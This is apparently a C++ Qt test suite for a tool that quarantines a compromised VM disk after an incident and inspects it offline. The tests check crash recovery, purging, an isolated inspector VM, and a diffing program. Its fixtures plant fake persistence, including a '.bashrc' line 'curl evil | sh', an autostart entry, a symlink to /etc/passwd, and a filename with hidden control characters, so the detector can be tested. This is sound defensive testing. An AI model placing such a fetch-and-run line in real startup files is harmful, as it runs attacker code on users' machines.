// Recover after an incident, without a VM: the quarantine move and the clean overlay, killed
// (SIGKILL, in a child process) after each step and finished or reverted by the next start;
// the ready disk kept alive inside the quarantine; purge; the inspector's domain XML against
// libvirt's schema; and the inspector's comparison program run on two host folders (it needs
// only perl) with its output parsed as the host does. The real guest is in tst_incident_e2e.
#include "deltareport.h"
#include "inspectorjob.h"
#include "inspectorscripts.h"
#include "overlaydisk.h"
#include "quarantinestore.h"
#include "recoveryjob.h"

#include <QDir>
#include <QDomDocument>
#include <QFile>
#include <QFileInfo>
#include <QMap>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>
#include <sys/stat.h>
#include <unistd.h>

namespace {

bool qemuImgCreate(const QStringList &arguments)
{
    QProcess process;
    process.start(QStringLiteral("qemu-img"), QStringList{QStringLiteral("create"), QStringLiteral("-q"), QStringLiteral("-f"), QStringLiteral("qcow2")} + arguments);
    return process.waitForFinished(30000) && process.exitCode() == 0;
}

ino_t inodeOf(const QString &path)
{
    struct stat st {};
    return ::lstat(QFile::encodeName(path).constData(), &st) == 0 ? st.st_ino : 0;
}

RecoveryJob jobFor(const QString &instance, const QString &clean)
{
    RecoveryJob job;
    job.domainName = QStringLiteral("tessera-test");
    job.appliance = QStringLiteral("test");
    job.instanceDir = instance;
    job.systemDisk = instance + QStringLiteral("/system.qcow2");
    job.cleanImage = clean;
    job.breachLogFile = instance + QStringLiteral("/breaches.jsonl");
    job.reason = QStringLiteral("test");
    return job;
}

bool setMtime(const QString &path, const QDateTime &time)
{
    QFile file(path);
    return file.open(QIODevice::ReadWrite) && file.setFileTime(time, QFileDevice::FileModificationTime);
}

bool writeFile(const QString &path, const QByteArray &content)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(content) == content.size();
}

} // namespace

class tst_Recovery : public QObject
{
    Q_OBJECT
    QTemporaryDir m_dir;
    QString m_base;

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_base = m_dir.filePath(QStringLiteral("base.qcow2"));
        QVERIFY(qemuImgCreate({m_base, QStringLiteral("16M")}));
    }

    void crashAt_data()
    {
        QTest::addColumn<int>("step");
        QTest::addColumn<bool>("quarantined"); // finished forward (true) or reverted (false)
        QTest::newRow("journal written") << int(RecoveryJob::Step::JournalWritten) << false;
        QTest::newRow("staging made") << int(RecoveryJob::Step::StagingMade) << false;
        QTest::newRow("delta moved") << int(RecoveryJob::Step::DeltaMoved) << true;
        QTest::newRow("quarantine published") << int(RecoveryJob::Step::QuarantinePublished) << true;
        QTest::newRow("clean created") << int(RecoveryJob::Step::CleanCreated) << true;
    }

    void crashAt()
    {
        QFETCH(int, step);
        QFETCH(bool, quarantined);
        const QString instance = m_dir.filePath(QStringLiteral("crash-%1").arg(step));
        QVERIFY(QDir().mkpath(instance));
        QVERIFY(qemuImgCreate({QStringLiteral("-b"), m_base, QStringLiteral("-F"), QStringLiteral("qcow2"), instance + QStringLiteral("/system.qcow2")}));
        const ino_t delta = inodeOf(instance + QStringLiteral("/system.qcow2"));

        // The child runs the recovery and kills itself (SIGKILL) right after the step.
        QProcess child;
        child.start(QCoreApplication::applicationFilePath(), {QStringLiteral("--recover-and-die"), instance, m_base, QString::number(step)});
        QVERIFY(child.waitForFinished(60000));
        QCOMPARE(child.exitStatus(), QProcess::CrashExit);
        QVERIFY2(QFileInfo::exists(instance + QStringLiteral("/recovery.json")), "the crash came before the journal was removed");

        // The next start.
        QVERIFY(RecoveryJob::finishInterrupted(instance));
        QVERIFY(!QFileInfo::exists(instance + QStringLiteral("/recovery.json")));
        const QuarantineStore store(instance);
        const QList<QuarantineRecord> records = store.list();
        QCOMPARE(QDir(store.directory()).entryList({QStringLiteral("*.tmp")}, QDir::Dirs).size(), 0);
        QVERIFY(QFileInfo::exists(instance + QStringLiteral("/system.qcow2")));
        if (quarantined) {
            QCOMPARE(records.size(), 1);
            QCOMPARE(inodeOf(store.deltaPath(records.first().id)), delta);
            QVERIFY(inodeOf(instance + QStringLiteral("/system.qcow2")) != delta);
            QCOMPARE(OverlayDisk(m_base, instance + QStringLiteral("/system.qcow2")).backingFile(), m_base);
            QCOMPARE(records.first().reason, QStringLiteral("test"));
        } else {
            QCOMPARE(records.size(), 0);
            QCOMPARE(inodeOf(instance + QStringLiteral("/system.qcow2")), delta);
        }
        QVERIFY(!RecoveryJob::finishInterrupted(instance)); // nothing left to do
    }

    void readyDiskKeptInQuarantine()
    {
        // Fresh mode: the overlay is on INSTANCE/ready/disk.qcow2, which may be discarded later.
        const QString instance = m_dir.filePath(QStringLiteral("ready"));
        const QString ready = instance + QStringLiteral("/ready/disk.qcow2");
        QVERIFY(QDir().mkpath(instance + QStringLiteral("/ready")));
        QVERIFY(qemuImgCreate({QStringLiteral("-b"), m_base, QStringLiteral("-F"), QStringLiteral("qcow2"), ready}));
        QVERIFY(qemuImgCreate({QStringLiteral("-b"), ready, QStringLiteral("-F"), QStringLiteral("qcow2"), instance + QStringLiteral("/system.qcow2")}));
        const RecoveryJob::Result result = jobFor(instance, ready).quarantine();
        QVERIFY2(!result.error.isError(), qPrintable(result.error.toString()));
        const QuarantineStore store(instance);
        QuarantineRecord record;
        QVERIFY(store.read(result.quarantineId, &record));
        const QString kept = store.folder(result.quarantineId) + QStringLiteral("/backing.qcow2");
        QCOMPARE(record.backingImage, kept);
        QCOMPARE(record.originalBacking, ready);
        QCOMPARE(OverlayDisk(kept, store.deltaPath(result.quarantineId)).backingFile(), kept);
        QCOMPARE(inodeOf(kept), inodeOf(ready));
        QCOMPARE(OverlayDisk(ready, instance + QStringLiteral("/system.qcow2")).backingFile(), ready);

        // Nothing to recover a second time without changes? There is a (clean) overlay: it is
        // quarantined too, under another name.
        const RecoveryJob::Result again = jobFor(instance, ready).quarantine();
        QVERIFY(!again.error.isError());
        QVERIFY(again.quarantineId != result.quarantineId);
        QCOMPARE(store.list().size(), 2);

        // Purge removes exactly one.
        QVERIFY(!store.purge(result.quarantineId).isError());
        QCOMPARE(store.list().size(), 1);
        QVERIFY(!QFileInfo::exists(store.folder(result.quarantineId)));
        QVERIFY(QFileInfo::exists(ready)); // the link went, not the ready disk
        QVERIFY(store.purge(QStringLiteral("../ready")).isError());
        QVERIFY(store.purge(QStringLiteral("nonexistent")).isError());
    }

    void purgeLeftoverRemoved()
    {
        const QString instance = m_dir.filePath(QStringLiteral("purge"));
        const QuarantineStore store(instance);
        QVERIFY(writeFile(store.directory() + QStringLiteral("/X.purging/delta.qcow2"), "x"));
        RecoveryJob::finishInterrupted(instance);
        QVERIFY(!QFileInfo::exists(store.directory() + QStringLiteral("/X.purging")));
    }

    void noDeltaNoRecovery()
    {
        const QString instance = m_dir.filePath(QStringLiteral("empty"));
        QVERIFY(QDir().mkpath(instance));
        const RecoveryJob::Result result = jobFor(instance, m_base).quarantine();
        QVERIFY(result.error.isError());
        QVERIFY(!result.error.message().isEmpty());
    }

    void inspectorXmlValid()
    {
        ApplianceImage image;
        image.kernel = QStringLiteral("/images/vmlinuz");
        image.initrd = QStringLiteral("/images/initrd.img");
        image.kernelCommandLine = QStringLiteral("root=/dev/vda");
        InspectorJob job;
        job.spec = InspectorJob::specFor(image, Accelerator::Tcg);
        job.cleanDisk = QStringLiteral("/q/backing.qcow2");
        job.deltaDisk = QStringLiteral("/q/delta.qcow2");
        job.outboxDir = QStringLiteral("/q/outbox");
        const QString xml = job.domainXml();
        QDomDocument doc;
        QVERIFY(doc.setContent(xml));
        QCOMPARE(doc.documentElement().firstChildElement(QStringLiteral("name")).text(), InspectorJob::domainName());
        const QDomNodeList disks = doc.elementsByTagName(QStringLiteral("disk"));
        // The clean image read-only; the delta never attached itself, only a throwaway view on it.
        QMap<QString, QDomElement> bySerial;
        for (int i = 0; i < disks.size(); ++i) {
            const QDomElement disk = disks.at(i).toElement();
            if (!disk.firstChildElement(QStringLiteral("serial")).isNull())
                bySerial.insert(disk.firstChildElement(QStringLiteral("serial")).text(), disk);
        }
        QCOMPARE(bySerial.size(), 2);
        const QDomElement clean = bySerial.value(InspectorScripts::cleanSerial());
        QCOMPARE(clean.firstChildElement(QStringLiteral("source")).attribute(QStringLiteral("file")), job.cleanDisk);
        QVERIFY(!clean.firstChildElement(QStringLiteral("readonly")).isNull());
        const QDomElement delta = bySerial.value(InspectorScripts::deltaSerial());
        QCOMPARE(delta.firstChildElement(QStringLiteral("source")).attribute(QStringLiteral("file")), job.deltaView());
        QVERIFY(job.deltaView() != job.deltaDisk);
        QCOMPARE(QFileInfo(job.deltaView()).absolutePath(), QFileInfo(job.spec.systemDisk).absolutePath());
        QVERIFY(!xml.contains(job.deltaDisk));
        QCOMPARE(doc.elementsByTagName(QStringLiteral("interface")).size(), 0); // no network
        QVERIFY(!xml.contains(QStringLiteral("qemu:commandline")));
        QCOMPARE(doc.elementsByTagName(QStringLiteral("filesystem")).size(), 1);

        QTemporaryDir dir;
        QFile file(dir.filePath(QStringLiteral("inspector.xml")));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(xml.toUtf8());
        file.close();
        QProcess validate;
        validate.start(QStringLiteral("virt-xml-validate"), {file.fileName(), QStringLiteral("domain")});
        QVERIFY(validate.waitForFinished(30000));
        QVERIFY2(validate.exitCode() == 0, validate.readAllStandardError().constData());
    }

    void compareProgramOnHostFolders()
    {
        // The same perl program the inspector runs, on two plain folders (no mount needed).
        QTemporaryDir dir;
        const QString clean = dir.filePath(QStringLiteral("clean"));
        const QString delta = dir.filePath(QStringLiteral("delta"));
        for (const QString &root : {clean, delta}) {
            QVERIFY(writeFile(root + QStringLiteral("/root/.bashrc"), "# bashrc\n"));
            QVERIFY(writeFile(root + QStringLiteral("/etc/issue.net"), "Debian\n"));
            QVERIFY(writeFile(root + QStringLiteral("/etc/same"), "same\n"));
            QVERIFY(writeFile(root + QStringLiteral("/etc/touched"), "same\n"));
        }
        QVERIFY(QFile::remove(delta + QStringLiteral("/etc/issue.net")));
        QVERIFY(writeFile(delta + QStringLiteral("/root/.bashrc"), "# bashrc\ncurl evil | sh\n"));
        QVERIFY(writeFile(delta + QStringLiteral("/etc/xdg/autostart/evil.desktop"), "[Desktop Entry]\n"));
        QVERIFY(writeFile(delta + QString::fromUtf8("/root/we\nird \xe2\x80\xae name"), "x"));
        QVERIFY(QFile::link(QStringLiteral("/etc/passwd"), delta + QStringLiteral("/root/link")));
        // Same content, new mtime: not a change.
        QVERIFY(setMtime(delta + QStringLiteral("/etc/touched"), QDateTime::currentDateTime().addDays(-3)));
        // Same attributes (mtime copied): not even hashed.
        QVERIFY(setMtime(delta + QStringLiteral("/etc/same"), QFileInfo(clean + QStringLiteral("/etc/same")).lastModified()));

        const QString out = dir.filePath(QStringLiteral("report.txt"));
        QProcess perl;
        perl.start(QStringLiteral("perl"), {QStringLiteral("-e"), InspectorScripts::compareProgram(), clean, delta, out});
        QVERIFY(perl.waitForFinished(60000));
        QVERIFY2(perl.exitCode() == 0, perl.readAllStandardError().constData());
        QFile file(out);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const DeltaReport report = DeltaReport::parse(file.readAll());
        QVERIFY(report.complete);
        QCOMPARE(report.rejectedLines, 0);
        QStringList seen;
        for (const DeltaEntry &entry : report.entries)
            seen << QStringLiteral("%1 %2").arg(int(entry.change)).arg(entry.path);
        const QStringList expected{
            QStringLiteral("0 /etc/xdg/autostart"), QStringLiteral("0 /etc/xdg/autostart/evil.desktop"), QStringLiteral("2 /root/.bashrc"),
            QStringLiteral("1 /etc/issue.net"), QStringLiteral("0 /etc/xdg"), QStringLiteral("0 /root/link"), QStringLiteral("0 /root/we\\x0aird \\xe2\\x80\\xae name")};
        QCOMPARE(seen, expected);
        QCOMPARE(report.persistenceCount(), 3);
        const DeltaEntry *bashrc = report.find(QStringLiteral("/root/.bashrc"));
        QVERIFY(bashrc);
        QCOMPARE(bashrc->sha256.size(), 64);
        QCOMPARE(report.find(QStringLiteral("/root/link"))->linkTarget, QStringLiteral("/etc/passwd"));
    }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const QStringList args = app.arguments();
    if (args.size() == 5 && args[1] == QLatin1String("--recover-and-die")) {
        RecoveryJob job = jobFor(args[2], args[3]);
        const int crashStep = args[4].toInt();
        job.afterStep = [crashStep](RecoveryJob::Step step) {
            if (int(step) == crashStep)
                ::raise(SIGKILL);
        };
        job.quarantine();
        return 3; // the step was never reached
    }
    tst_Recovery test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_recovery.moc"
